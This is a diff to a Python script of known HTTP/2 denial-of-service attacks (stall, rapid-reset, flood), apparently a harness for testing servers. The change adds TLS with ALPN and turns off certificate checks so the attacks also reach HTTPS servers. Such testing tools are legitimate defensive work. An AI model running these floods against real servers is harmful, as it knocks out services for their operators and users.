@@ -2,7 +2,7 @@
 """Known HTTP/2 attacks, one per mode, with frames built by hand (the `h2` package refuses to
 misbehave); `hpack` encodes the header blocks.
 
-    h2_attacks.py MODE HOST PORT PATH [--seconds S] [--streams N]
+    h2_attacks.py MODE HOST PORT PATH [--seconds S] [--streams N] [--tls]
 
 Modes:
   stall          one request for PATH on the default 64 KiB windows, never granting more to the
@@ -27,6 +27,7 @@ Prints one line of `key=value` pairs at the end: how the connection ended (`end=
 import argparse
 import select
 import socket
+import ssl
 import struct
 import sys
 import time
@@ -50,9 +51,17 @@ def settings(pairs=()):
 class Conn:
     """A socket and a frame reader that records what the server said."""
 
-    def __init__(self, host, port):
+    def __init__(self, host, port, tls=False):
         self.sock = socket.create_connection((host, port))
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        if tls:
+            context = ssl.create_default_context()
+            context.check_hostname = False
+            context.verify_mode = ssl.CERT_NONE
+            context.set_alpn_protocols(["h2"])
+            self.sock = context.wrap_socket(self.sock, server_hostname="localhost")
+            if self.sock.selected_alpn_protocol() != "h2":
+                sys.exit("the server did not offer h2")
         self.buf = b""
         self.end = None
         self.received = {}
@@ -94,11 +103,16 @@ class Conn:
             left = deadline - time.monotonic()
             if left <= 0:
                 return
-            ready, _, _ = select.select([self.sock], [], [], left)
-            if not ready:
-                return
+            # TLS may hold decrypted bytes that select() cannot see.
+            buffered = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
+            if not buffered:
+                ready, _, _ = select.select([self.sock], [], [], left)
+                if not ready:
+                    return
             try:
                 chunk = self.sock.recv(1 << 16)
+            except ssl.SSLWantReadError:
+                continue
             except OSError:
                 self.end = "reset"
                 return
@@ -144,15 +158,18 @@ class Conn:
             self.send(frame(PING, ACK, 0, self.pings.pop()))
 
 
+SCHEME = ["http"]
+
+
 def request(encoder, host, port, path, extra=()):
     return encoder.encode(
-        [(":method", "GET"), (":scheme", "http"), (":authority", f"{host}:{port}"), (":path", path)]
+        [(":method", "GET"), (":scheme", SCHEME[0]), (":authority", f"{host}:{port}"), (":path", path)]
         + list(extra)
     )
 
 
 def start(args, window=None, pairs=()):
-    conn = Conn(args.host, args.port)
+    conn = Conn(args.host, args.port, args.tls)
     pairs = list(pairs)
     if window is not None:
         pairs.append((SETTINGS_INITIAL_WINDOW_SIZE, window))
@@ -254,7 +271,7 @@ def flood(args, one):
         try:
             n = conn.sock.send(pending)
             pending = pending[n:]
-        except BlockingIOError:
+        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
             time.sleep(0.01)
         except OSError:
             conn.end = "reset"
@@ -336,7 +353,10 @@ def main():
     parser.add_argument("path")
     parser.add_argument("--seconds", type=float, default=5)
     parser.add_argument("--streams", type=int, default=200)
+    parser.add_argument("--tls", action="store_true", help="HTTPS, h2 by ALPN")
     args = parser.parse_args()
+    if args.tls:
+        SCHEME[0] = "https"
     modes = {
         "stall": lambda: stall(args),
         "rapid-reset": lambda: rapid_reset(args),
